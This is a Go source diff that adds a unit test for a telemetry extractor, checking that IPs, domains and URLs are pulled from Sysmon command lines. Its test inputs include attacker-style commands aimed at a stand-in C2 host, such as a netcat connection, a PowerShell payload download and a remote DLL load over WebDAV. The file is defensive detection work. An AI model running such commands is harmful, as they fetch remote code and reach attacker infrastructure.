@@ -1,6 +1,7 @@
 package telemetry
 
 import (
+	"encoding/json"
 	"errors"
 	"slices"
 	"strings"
@@ -502,6 +503,55 @@ func TestParseFormat(t *testing.T) {
 			}
 			if err != nil && !strings.Contains(err.Error(), "auto, ecs, sysmon, zeek, suricata, osquery, generic") {
 				t.Errorf("error %q does not list the valid formats", err)
+			}
+		})
+	}
+}
+
+// TestCommandLineAddresses: issue 10 §4, a command line's arguments are scanned for the
+// URLs, domains and addresses in them, however the command writes them (the lines a
+// tester found missed), and file names and version numbers are not taken for domains.
+func TestCommandLineAddresses(t *testing.T) {
+	cmd := func(vs ...vigil.Observable) []vigil.Observable { return vs }
+	ipc := func(v string) vigil.Observable { return o("CommandLine", ip4, v) }
+	domc := func(v string) vigil.Observable { return o("CommandLine", dom, v) }
+	tests := []struct {
+		name, cmdline string
+		want          []vigil.Observable
+	}{
+		{"UNC path to an address", `net use \\203.0.113.66\c$`, cmd(ipc("203.0.113.66"))},
+		{"UNC path to a host", `net use \\bad-c2.example.net\c$`, cmd(domc("bad-c2.example.net"))},
+		{"WebDAV UNC path", `rundll32 \\203.0.113.66@SSL\DavWWWRoot\x.dll,Start`, cmd(ipc("203.0.113.66"))},
+		{"WebDAV UNC path with a port", `net use \\bad-c2.example.net@SSL@8443\DavWWWRoot`, cmd(domc("bad-c2.example.net"))},
+		{"ssh to user@address", `ssh root@203.0.113.66`, cmd(ipc("203.0.113.66"))},
+		{"ssh to user@host", `ssh admin@bad-c2.example.net`, cmd(domc("bad-c2.example.net"))},
+		{"scp to user@host:path", `scp a.txt admin@bad-c2.example.net:/tmp/`, cmd(domc("bad-c2.example.net"))},
+		{"netcat address and port", `nc 203.0.113.66 4444`, cmd(ipc("203.0.113.66"))},
+		{"address:port", `nc 203.0.113.66:4444`, cmd(ipc("203.0.113.66"))},
+		{"host:port", `nc bad-c2.example.net:4444`, cmd(domc("bad-c2.example.net"))},
+		{"option=address", `x --server=203.0.113.66`, cmd(ipc("203.0.113.66"))},
+		{"option=host", `x --server=bad-c2.example.net`, cmd(domc("bad-c2.example.net"))},
+		{"option=URL", `x /url=http://bad-c2.example.net/a?b=c`,
+			cmd(o("CommandLine", url, "http://bad-c2.example.net/a?b=c"), domc("bad-c2.example.net"))},
+		{"URL without a scheme", `powershell iwr bad-c2.example.net/payload.ps1`, cmd(domc("bad-c2.example.net"))},
+		{"IPv6 address", `ping 2001:db8::5`, cmd(o("CommandLine", ip6, "2001:db8::5"))},
+		{"file names, paths and versions are not domains",
+			`C:\Windows\conhost.exe 0xffffffff -ForceV1 --version=1.2.3 \\?\C:\x\a.b /log=out.txt a.b`, nil},
+		{"base64 padding is not an option value", `powershell -enc SQBFAFgA==`, nil},
+	}
+	ex := NewExtractor(FormatSysmon)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			line, err := json.Marshal(map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "CommandLine": tt.cmdline})
+			if err != nil {
+				t.Fatal(err)
+			}
+			got, err := ex.Extract(line, nil)
+			if err != nil {
+				t.Fatalf("Extract: %v", err)
+			}
+			if g, w := lines(got), lines(tt.want); g != w {
+				t.Errorf("%s\nobservables:\n%s\nwant:\n%s", tt.cmdline, g, w)
 			}
 		})
 	}
